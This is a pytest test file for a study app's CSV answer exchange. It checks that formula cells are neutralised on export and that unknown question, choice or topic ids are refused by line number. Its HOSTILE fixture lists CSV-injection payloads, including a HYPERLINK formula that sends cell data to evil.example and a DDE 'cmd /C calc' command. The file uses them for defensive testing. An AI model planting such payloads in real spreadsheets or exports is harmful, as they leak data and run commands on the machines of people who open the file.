"""CSV exchange: formula cells neutralised on export and round-tripped; every bad row named
by its line in the file; unknown question and choice ids refused; good rows on request."""

import csv
import io
from datetime import datetime, timezone

import pytest

from study.answers_csv import FORMULA_START, neutralise, restore
from study.progress import CSV_COLUMNS, CSVImportError, ProgressStore, parse_answers_csv

T0 = datetime(2026, 1, 5, 9, 30, tzinfo=timezone.utc)
HEADER = ",".join(CSV_COLUMNS) + "\n"
BANK = {
    "q1": {"id": "q1", "topic": "map", "choices": [{"id": "a"}, {"id": "b"}, {"id": "c"}]},
    "tf": {"id": "tf", "topic": "data-flow", "choices": [{"id": "true"}, {"id": "false"}]},
}
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def store(store_url):
    return ProgressStore(url=store_url)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_every_formula_start_is_neutralised_and_restored():
    for start in FORMULA_START:
        cell = start + "1+1"
        assert neutralise(cell) == "'" + cell
        assert restore(neutralise(cell)) == cell
    for plain in ("q1", "2026-01-05T09:30:00+00:00", "a;b", "it's", "'quoted"):
        assert neutralise(plain) == plain and restore(plain) == plain


def test_csv_round_trip_with_formula_cells(store, tmp_path):
    # Answers stored before imports were checked may hold anything; the export must
    # still never hand a spreadsheet a formula.
    for i, hostile in enumerate(HOSTILE):
        store.record_answer("Ana", hostile, hostile, i % 2 == 0, [hostile], at=T0.replace(minute=i))
    text = store.export_csv("Ana")
    rows = cells(text)
    assert rows[0] == list(CSV_COLUMNS)
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_START), row
    assert rows[1][1] == "'" + HOSTILE[0]
    # and back: the same answers, cell for cell
    again = ProgressStore(tmp_path / "again.sqlite3")
    assert again.import_csv("Ana", text) == len(HOSTILE)
    assert again.answers("Ana") == store.answers("Ana")
    assert [a["question_id"] for a in again.answers("Ana")] == HOSTILE


def test_unknown_questions_choices_and_topics_are_refused_by_line():
    text = (HEADER
            + "2026-01-05T09:30:00+00:00,q1,map,1,a,practice\n"          # line 2: fine
            + "2026-01-05T09:31:00+00:00,nope,map,1,a,practice\n"        # line 3
            + "\n"                                                      # line 4: blank
            + "2026-01-05T09:32:00+00:00,q1,map,1,a;z,practice\n"        # line 5
            + '2026-01-05T09:33:00+00:00,"tf",data-flow,0,"true",exam\n'  # line 6: fine
            + '2026-01-05T09:34:00+00:00,q1,"map\nmore",1,b,practice\n'  # lines 7-8
            + "2026-01-05T09:35:00+00:00,tf,map,1,false,exam\n")          # line 9
    with pytest.raises(CSVImportError) as err:
        parse_answers_csv(text, known_topics=["map", "data-flow"], questions=BANK)
    got = [(p.line, p.column) for p in err.value.problems]
    assert got == [(3, "question_id"), (5, "selected"), (7, "topic"), (9, "topic")]
    shown = [str(p) for p in err.value.problems]
    assert shown[0] == "Line 3, column 'question_id': unknown question 'nope' (not in this app's questions)"
    assert shown[1] == "Line 5, column 'selected': question 'q1' has no choice 'z' (its choices: a, b, c)"
    assert shown[3] == "Line 9, column 'topic': question 'tf' is in topic 'data-flow', not 'map'"
    assert err.value.bad_lines == [3, 5, 7, 9]
    assert [r["question_id"] for r in err.value.rows] == ["q1", "tf"]


def test_a_file_with_a_bad_row_imports_nothing_unless_asked(store):
    text = (HEADER + "2026-01-05T09:30:00+00:00,q1,map,1,a,practice\n"
            + "2026-01-05T09:31:00+00:00,q1,map,1,x,practice\n"
            + "2026-01-05T09:32:00+00:00,tf,data-flow,1,false,exam\n")
    with pytest.raises(CSVImportError, match="Nothing was imported. Line 3"):
        store.import_csv("Ana", text, questions=BANK)
    assert store.answers("Ana") == []
    assert store.import_csv("Ana", text, questions=BANK, skip_bad=True) == 2
    assert [a["question_id"] for a in store.answers("Ana")] == ["q1", "tf"]
    # a file with nothing good still refuses, even when asked to skip the bad rows
    with pytest.raises(CSVImportError):
        store.import_csv("Ben", HEADER + "yesterday,q1,map,1,a,practice\n", skip_bad=True)


def test_a_header_only_file_imports_nothing_quietly(store):
    assert store.import_csv("Ana", HEADER) == 0
